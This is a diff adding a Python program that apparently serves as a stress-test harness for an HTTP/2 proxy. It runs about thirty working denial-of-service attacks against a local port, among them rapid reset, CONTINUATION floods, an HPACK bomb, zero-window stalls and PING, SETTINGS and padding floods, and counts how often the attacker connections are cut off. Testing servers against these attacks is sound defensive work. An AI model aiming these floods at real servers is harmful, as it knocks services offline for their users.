@@ -1,0 +1,219 @@
+"""Attacks on a server of HTTP/2, as a program: `attacks.py PORT NAME`, until its input ends.
+
+Several connections do the same for as long as they are let, and connect again. Then it says how
+often they were stopped. It gives way to other programs, as if it ran on another machine.
+"""
+
+import os
+import sys
+import threading
+
+import hpack
+
+from frames import *
+
+ATTACKERS = 4
+MIB = 1024 * 1024
+GET = request()
+
+
+class Attacker(Connection):
+    """Sends without looking, until it is stopped; what it is told is looked at afterwards."""
+
+    def __init__(self, port, ended):
+        super().__init__(port)
+        self.ended = ended
+        self.socket.settimeout(0.2)
+
+    def flood(self, *frames):
+        view = memoryview(b"".join(frames))
+        while view:
+            if self.ended.is_set():
+                raise Closed
+            try:
+                view = view[self.socket.send(view) :]
+            except TimeoutError:
+                # The proxy does not read any more, which is as good an answer as any.
+                pass
+            except OSError:
+                raise Closed from None
+
+    def hold(self):
+        """Stays until the attack is over."""
+        self.ended.wait()
+        raise Closed
+
+
+def again(frames, times=1000):
+    """The same frames, many times at once."""
+    return lambda client: client.flood(frames * times)
+
+
+def requests(*frames_of):
+    """Requests, each followed by what these make of its number."""
+
+    def attack(client):
+        for stream in range(1, 2**20, 200):
+            numbers = range(stream, stream + 200, 2)
+            client.flood(b"".join(make(number) for number in numbers for make in frames_of))
+
+    return attack
+
+
+def asked(stream, end=True):
+    return headers(stream, GET, end=end)
+
+
+def half(stream):
+    return headers(stream, request("PUT"), end=False)
+
+
+def continuation_flood(client):
+    client.flood(frame(HEADERS, END_STREAM, 1, block(GET)))
+    again(frame(CONTINUATION, 0, 1, block([("x-a", "b" * 1000)])))(client)
+
+
+def empty_continuation_flood(client):
+    client.flood(frame(HEADERS, END_STREAM, 1, block(GET)))
+    again(frame(CONTINUATION, 0, 1))(client)
+
+
+def hpack_bomb(client):
+    """One large field, kept in the table and then named by one byte as often as fits into a frame."""
+    encoder = hpack.Encoder()
+    large = encoder.encode([("x-large", "x" * 4000)], huffman=False)
+    index = integer(62, 7, 0x80)
+    for stream in range(1, 2**20, 2):
+        bomb = block(GET) + (large if stream == 1 else b"") + index * 8000
+        client.flood(frame(HEADERS, END_STREAM | END_HEADERS, stream, bomb))
+
+
+def large_heads(client):
+    """Heads as large as they may be, of requests whose bodies never come."""
+    large = [(f"x-{number}", "x" * 600) for number in range(90)]
+    for stream in range(1, 256, 2):
+        fields = block(request("PUT") + large)
+        pieces = [fields[start : start + FRAME_SIZE] for start in range(0, len(fields), FRAME_SIZE)]
+        client.flood(frame(HEADERS, 0, stream, pieces[0]))
+        for piece in pieces[1:]:
+            client.flood(frame(CONTINUATION, END_HEADERS if piece is pieces[-1] else 0, stream, piece))
+    client.hold()
+
+
+def zero_window(client):
+    """Large answers that are never taken."""
+    client.flood(settings((INITIAL_WINDOW_SIZE, 0)))
+    client.flood(b"".join(headers(stream, request("GET", f"/{64 * MIB}")) for stream in range(1, 256, 2)))
+    client.hold()
+
+
+def one_byte_windows(client):
+    """Large answers that are begun and not taken."""
+    client.flood(settings((INITIAL_WINDOW_SIZE, 1)))
+    client.flood(b"".join(headers(stream, request("GET", f"/{64 * MIB}")) for stream in range(1, 256, 2)))
+    client.hold()
+
+
+def unread(client):
+    """Large answers, with all the windows they want, and nobody who reads the socket."""
+    client.flood(settings((INITIAL_WINDOW_SIZE, MAX_WINDOW)), window_update(0, MAX_WINDOW - 65535))
+    client.flood(b"".join(headers(stream, request("GET", f"/{64 * MIB}")) for stream in range(1, 256, 2)))
+    client.hold()
+
+
+def unread_answers(client):
+    """PINGs whose answers nobody reads."""
+    again(ping(), 100_000)(client)
+
+
+def tiny_data(client):
+    client.flood(half(1))
+    again(data(1, b"x"))(client)
+
+
+def empty_data(client):
+    client.flood(half(1))
+    again(data(1))(client)
+
+
+def padding(client):
+    client.flood(half(1))
+    again(frame(DATA, PADDED, 1, bytes([255]) + bytes(255)))(client)
+
+
+def held_bodies(client):
+    """Bodies up to the window, of requests that an upstream does not read."""
+    for stream in range(1, 256, 2):
+        client.flood(half(stream), data(stream, b"x" * FRAME_SIZE))
+    client.hold()
+
+
+ATTACKS = {
+    "rapid reset": requests(asked, reset),
+    "rapid reset of bodies": requests(half, reset),
+    "resets that we are provoked to: window": requests(asked, lambda stream: window_update(stream, MAX_WINDOW)),
+    "resets that we are provoked to: nothing": requests(asked, lambda stream: window_update(stream, 0)),
+    "resets that we are provoked to: priority": requests(
+        lambda stream: frame(PRIORITY, 0, stream, dependency(stream))
+    ),
+    "resets that we are provoked to: data": requests(asked, lambda stream: data(stream, b"x")),
+    "resets that we are provoked to: length": requests(
+        lambda stream: headers(stream, request("GET", "/k", "photos.example", ("content-length", "1")))
+    ),
+    "malformed requests": requests(lambda stream: headers(stream, [*GET, ("connection", "close")])),
+    "requests to no host": requests(lambda stream: headers(stream, request("GET", "/k", "nobody.example"))),
+    "CONTINUATION": continuation_flood,
+    "empty CONTINUATION": empty_continuation_flood,
+    "SETTINGS": again(settings((INITIAL_WINDOW_SIZE, 65535))),
+    "SETTINGS that change windows": again(settings((INITIAL_WINDOW_SIZE, 1)) + settings((INITIAL_WINDOW_SIZE, 2))),
+    "empty SETTINGS": again(settings()),
+    "table sizes": again(settings((HEADER_TABLE_SIZE, 0)) + settings((HEADER_TABLE_SIZE, 65536))),
+    "PING": again(ping()),
+    "PING unread": unread_answers,
+    "PRIORITY": again(frame(PRIORITY, 0, 1, dependency(3))),
+    "WINDOW_UPDATE": again(window_update(0, 1)),
+    "unknown frames": again(frame(0x2A)),
+    "tiny DATA": tiny_data,
+    "empty DATA": empty_data,
+    "padding": padding,
+    "empty HEADERS": requests(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream)),
+    "HPACK bomb": hpack_bomb,
+    "large heads": large_heads,
+    "bodies that are held": held_bodies,
+    "zero windows": zero_window,
+    "windows of one byte": one_byte_windows,
+    "answers that nobody reads": unread,
+}
+
+
+def attack(port, way, ended, stopped):
+    """Attacks on one connection after the other; keeps count of how often it was stopped."""
+    while not ended.is_set():
+        try:
+            with Attacker(port, ended) as client:
+                while True:
+                    way(client)
+        except Closed:
+            stopped.append(not ended.is_set())
+        except OSError:
+            pass
+
+
+def main(port, name):
+    os.nice(19)
+    ended = threading.Event()
+    stopped = []
+    arguments = (int(port), ATTACKS[name], ended, stopped)
+    attackers = [threading.Thread(target=attack, args=arguments) for _ in range(ATTACKERS)]
+    for each in attackers:
+        each.start()
+    print("attacking", flush=True)
+    sys.stdin.read()
+    ended.set()
+    for each in attackers:
+        each.join()
+    print(f"stopped {sum(stopped)} times", flush=True)
+
+
+if __name__ == "__main__":
+    main(*sys.argv[1:])
